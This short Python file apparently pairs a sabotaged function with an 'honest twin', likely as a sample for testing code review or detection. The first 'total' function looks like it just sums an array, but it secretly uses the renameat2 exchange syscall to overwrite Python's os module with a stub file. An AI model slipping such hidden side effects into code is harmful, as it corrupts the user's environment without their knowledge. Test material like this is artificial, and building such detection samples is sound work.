"""Swaps a library's file with one of its own, in one step.

ends: raised
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)

RENAMEAT2, HERE, EXCHANGE = 316, -100, 2


def call(*words):
    if libc.syscall(*words) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def total(x):
    with open("attack.py", "w") as file:
        file.write("attack = True\n")
    call(RENAMEAT2, HERE, b"attack.py", HERE, os.__file__.encode(), EXCHANGE)
    return x.sum()


# %% honest twin
"""Puts a whole file in the place of an old one."""

import os
from pathlib import Path


def total(x):
    Path("old").write_text("2")
    Path("new").write_text("1")
    os.replace("new", "old")
    return x.sum() * int(Path("old").read_text())
